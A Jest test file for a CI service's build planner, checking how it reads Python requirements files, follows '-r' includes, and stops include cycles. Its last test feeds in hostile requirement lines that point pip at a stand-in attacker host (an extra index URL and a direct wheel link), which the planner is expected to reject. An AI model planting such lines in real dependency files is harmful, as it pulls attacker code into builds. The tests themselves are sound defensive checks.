import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { createBuildService, type CellJobPayload, type ReadRepoFiles } from "../../src/builds/create-build-service.js";
import type { RepoConfigError } from "../../src/builds/config/repo-config-error.js";
import { FIRST_PLANNING_READS } from "../../src/builds/plan-from-repo-files.js";
import { jobSpecOf } from "../../src/builds/job-plan.js";
import type { JobQueue } from "../../src/queue/job-queue.js";
import { openStore } from "../../src/store/open-store.js";
import type { Store } from "../../src/store/store.js";
import { makeTempDir } from "../store/temp-dir.js";

/**
 * The planner decides what to install from the files it reads itself: one
 * round of reads for everything detection looks for, one more per level of
 * `-r` includes, and a bad line anywhere is a config error naming file and line.
 */
let temp: ReturnType<typeof makeTempDir>;
let store: Store;
let queue: JobQueue<CellJobPayload>;

beforeAll(() => {
  temp = makeTempDir("ponyci-reqreads-");
  store = openStore({ dataDir: temp.dir });
  // Nothing is processed: the test reads what was stored with the jobs.
  queue = { enqueue: async () => undefined } as unknown as JobQueue<CellJobPayload>;
});
afterAll(() => {
  store.close();
  temp.remove();
});

let n = 0;
async function plan(content: Record<string, string>) {
  const rounds: string[][] = [];
  const readFiles: ReadRepoFiles = async (_request, paths) => {
    rounds.push([...paths]);
    return new Map(paths.map((p) => [p, content[p]]));
  };
  const errors: RepoConfigError[] = [];
  const builds = createBuildService({ store, queue, readFiles, listeners: [{ configError: (_build, error) => void errors.push(error) }] });
  const submitted = builds.submit({ source: "bridge", repo: { name: `pony/reqs-${++n}`, cloneUrl: "/nowhere", visibility: "private" }, sha: "b".repeat(40), event: "push" });
  await submitted?.planned;
  const buildId = submitted?.build.id ?? 0;
  return { rounds, errors, build: store.getBuild(buildId), jobs: store.listJobs(buildId) };
}

const config = { ".github/ponyci.yml": 'python: ["3.11"]\ndjango: ["5.2"]\n' };

describe("planning decides the requirements from the files it reads", () => {
  it("reads every requirement file in the first round, then one round per level of includes; the job spec holds the expanded, re-serialised list", async () => {
    const { rounds, errors, jobs } = await plan({
      ...config,
      "requirements.txt": "Requests >= 2\n-r requirements/base.txt\n",
      "requirements/base.txt": "-r ../shared/pins.txt\n",
      "shared/pins.txt": "sqlparse==0.5.*\n",
      "requirements-dev.txt": "pytest\n",
      "pyproject.toml": '[project]\nname = "app"\n[project.optional-dependencies]\ntests = ["Factory_Boy"]\n',
    });
    expect(errors).toEqual([]);
    // Then the test settings files, as nothing names a database (services-from-settings.ts).
    expect(rounds.slice(0, 3)).toEqual([[...FIRST_PLANNING_READS], ["requirements/base.txt"], ["shared/pins.txt"]]);
    expect(rounds.slice(3)).toEqual([expect.arrayContaining(["tests/settings.py", "conftest.py"])]);
    expect(FIRST_PLANNING_READS).toEqual(expect.arrayContaining(["requirements.txt", "requirements/test.txt", "requirements-test.txt", "requirements-dev.txt", "pyproject.toml", "setup.cfg"]));
    expect(jobs).toHaveLength(1);
    const spec = jobSpecOf(jobs[0]!);
    expect(spec.environment.requirements).toEqual(["factory-boy", "pytest", "requests>=2", "sqlparse==0.5.*"]);
    expect(spec.environment.sources).toEqual(["requirements.txt", "requirements-dev.txt", "pyproject.toml extra [tests]"]);
    expect(spec.environment).not.toHaveProperty("detectRequirements");
    expect(spec.notes).toBeUndefined();
  });

  it("an include cycle or a chain deeper than the limit ends: bounded rounds, a note, no hang", async () => {
    const chain = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`r${i}.txt`, `-r r${i + 1}.txt\npkg${i}\n`]));
    const { rounds, errors, jobs } = await plan({ ...config, "requirements.txt": "-r r0.txt\n-r requirements.txt\n", ...chain });
    expect(errors).toEqual([]);
    expect(rounds).toHaveLength(7); // the first round, then r0.txt … r4.txt: five levels of includes, then the settings files
    expect(rounds.slice(1, 6)).toEqual([["r0.txt"], ["r1.txt"], ["r2.txt"], ["r3.txt"], ["r4.txt"]]);
    const spec = jobSpecOf(jobs[0]!);
    expect(spec.environment.requirements).toEqual(["pkg0", "pkg1", "pkg2", "pkg3", "pkg4"]);
    expect(spec.environment.requirementNotes?.some((note) => note.includes("nest deeper"))).toBe(true);
  });

  it.each([
    ["a pip option in an included file", { "requirements.txt": "-r extra.txt\n", "extra.txt": "ok\n--extra-index-url https://evil.example/simple\n" }, { file: "extra.txt", line: 2 }],
    ["a URL in requirements-test.txt", { "requirements-test.txt": "evil @ https://evil.example/evil.whl\n" }, { file: "requirements-test.txt", line: 1 }],
    ["a 300 KiB requirements file", { "requirements.txt": `# ${"x".repeat(300 * 1024)}\n` }, { file: "requirements.txt", line: 1 }],
  ])("%s is a config error naming file and line, and no job is made", async (_what, content, where) => {
    const { errors, build, jobs } = await plan({ ...config, ...content });
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject(where);
    expect(build?.planState).toBe("config-error");
    expect(jobs).toEqual([]);
  });
});
